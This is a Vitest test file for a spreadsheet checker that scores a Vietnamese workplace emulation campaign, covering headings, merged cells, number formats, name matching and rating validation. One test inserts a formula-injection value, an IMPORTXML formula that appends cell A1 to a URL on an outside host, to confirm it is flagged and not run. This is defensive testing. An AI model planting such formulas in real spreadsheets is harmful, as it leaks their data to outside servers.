import { describe, expect, it } from 'vitest';
import { createBook } from '../../local/book/book.ts';
import { CHECK, click, columnOf, exported, issues, SCORE, sampleBook, sentence, tab } from './office.ts';

describe('an empty spreadsheet', () => {
  it('is told to set up first, and nothing is written', () => {
    const book = createBook();
    const before = JSON.stringify(book);
    expect(click(book, CHECK).shown).toEqual([
      'Bảng tính chưa có các tab của phong trào thi đua. Hãy bấm “Thiết lập / Sửa lại các tab” trước.',
    ]);
    expect(JSON.stringify(book) === before).toBe(true);
  });
});

describe('tabs and headings', () => {
  it('a missing tab is named, the rest is still checked', () => {
    const book = sampleBook();
    book.delete(tab(book, 'ĐK 3.4'));
    click(book, CHECK);
    expect(sentence(book, 'H01')).toBe('Không có tab “ĐK 3.4”.');
    expect(issues(book)).toContain('C02 register-3.3 16 evidence');
  });

  it('a renamed heading is still read as its column', () => {
    const book = sampleBook();
    const sheet = tab(book, 'Phiếu chấm');
    sheet.put(1, columnOf(sheet, 'Thẩm định'), 'Điểm của Nội vụ');
    click(book, CHECK);
    expect(sentence(book, 'H04')).toBe('Tab Phiếu chấm, ô E1: tiêu đề “Điểm của Nội vụ” được đọc là cột “Thẩm định”.');
    expect(issues(book)).toContain('C01 score-sheets 225 assessed');
  });

  it('a doubled heading is named, the first column counts', () => {
    const book = sampleBook();
    const sheet = tab(book, 'Bỏ phiếu');
    sheet.put(1, 12, 'Đồng ý');
    click(book, CHECK);
    expect(sentence(book, 'H03')).toBe('Tab Bỏ phiếu, ô L1: có hai cột “Đồng ý”; phần mềm chỉ đọc cột đứng trước.');
  });

  it('merged cells are named', () => {
    const book = sampleBook();
    tab(book, 'ĐK 3.5').merge({ row: 3, column: 5, rows: 2, columns: 1 });
    click(book, CHECK);
    expect(sentence(book, 'H05')).toBe('Tab ĐK 3.5, ô E3: có ô gộp; chỉ ô đầu giữ dữ liệu, các dòng còn lại bị trống.');
  });
});

describe('cells', () => {
  it('a number with comma or point means the same', () => {
    const book = sampleBook();
    const sheet = tab(book, 'ĐK 3.1');
    const target = columnOf(sheet, 'Kết quả thẩm định');
    sheet.put(2, target, '0,5');
    click(book, SCORE);
    const withComma = exported(book, 'scoreboard');
    sheet.put(2, target, '0.5');
    click(book, SCORE);
    expect(exported(book, 'scoreboard')).toEqual(withComma);
  });

  it('“1.500” has two readings and is asked about', () => {
    const book = sampleBook();
    const sheet = tab(book, 'ĐK 3.1');
    sheet.put(2, columnOf(sheet, 'Chỉ tiêu'), '1.500');
    click(book, CHECK);
    expect(exported(book, 'checks').find(({ tab: where }) => where === 'register-3.1')?.message).toBe(
      'Tab ĐK 3.1, ô F2: “1.500” không hợp lệ: số này đọc được hai cách; viết 1500 hoặc 1,5.',
    );
  });

  it('a formula where a name belongs is named once and not counted', () => {
    const book = sampleBook();
    const sheet = tab(book, 'ĐK 3.2');
    sheet.putFormula(2, columnOf(sheet, 'Người đăng ký'), '=IMPORTXML("https://example.org/?"&A1;"//a")');
    click(book, CHECK);
    expect(issues(book).filter((issue) => issue.includes('register-3.2 2 '))).toEqual([
      'H06 register-3.2 2 participant',
    ]);
    expect(sheet.formula(2, columnOf(sheet, 'Người đăng ký'))).toContain('IMPORTXML');
  });

  it('text that looks like a formula is shown in quotation marks, never run', () => {
    const book = sampleBook();
    const roster = tab(book, 'Danh sách');
    roster.put(2, columnOf(roster, 'Họ và tên'), '=HYPERLINK("https://example.org")');
    click(book, SCORE);
    const board = tab(book, 'Bảng điểm');
    expect([...board.formulaCells()]).toEqual([]);
    const names = exported(book, 'scoreboard').map(({ name }) => name);
    expect(names).toContain('“=HYPERLINK("https://example.org")”');
  });

  it('a name in another spelling or in decomposed letters is found', () => {
    const book = sampleBook();
    click(book, CHECK);
    expect(issues(book).filter((issue) => /register-3.2 (25|49) /.test(issue))).toEqual([]);
  });

  it('an unknown person is named with the cell', () => {
    const book = sampleBook();
    click(book, CHECK);
    expect(sentence(book, 'C03')).toBe(
      'Tab ĐK 3.2, ô A78: không xác định được “CB21” trong Danh sách (không có mã hoặc tên này).',
    );
  });

  it('blank rows in between change nothing but the place', () => {
    const book = sampleBook();
    click(book, SCORE);
    const before = exported(book, 'scoreboard');
    tab(book, 'ĐK 3.3').insertRows(5, 3);
    tab(book, 'Danh sách').insertRows(10, 1);
    click(book, SCORE);
    expect(exported(book, 'scoreboard')).toEqual(before);
  });

  it('50.000 characters in a cell are quoted shortly and kept', () => {
    const book = sampleBook();
    const sheet = tab(book, 'Phiếu chấm');
    const long = 'dài '.repeat(12_500);
    sheet.put(2, columnOf(sheet, 'Thẩm định'), long);
    click(book, CHECK);
    expect((exported(book, 'checks')[0]?.message ?? '').length).toBeLessThan(300);
    expect(sheet.value(2, columnOf(sheet, 'Thẩm định'))).toBe(long);
  });

  it('two people with one name are kept apart by their codes', () => {
    const book = sampleBook();
    click(book, CHECK);
    const shared = exported(book, 'checks').find(({ row }) => row === '79');
    expect(shared?.message).toBe(
      'Tab ĐK 3.2, ô A79: không xác định được “Nguyễn Văn An” trong Danh sách (nhiều người cùng tên).',
    );
  });

  it('a rating nobody knows keeps the person off the lists and says so', () => {
    const book = sampleBook();
    const roster = tab(book, 'Danh sách');
    roster.put(14, columnOf(roster, 'Xếp loại năm'), 'Giỏi');
    click(book, CHECK);
    expect(exported(book, 'checks').find(({ tab: where }) => where === 'roster')?.message).toBe(
      'Tab Danh sách, ô J14: “Giỏi” không hợp lệ: cần một trong: Hoàn thành xuất sắc nhiệm vụ; Hoàn thành tốt nhiệm vụ; Hoàn thành nhiệm vụ; Không hoàn thành nhiệm vụ.',
    );
  });
});
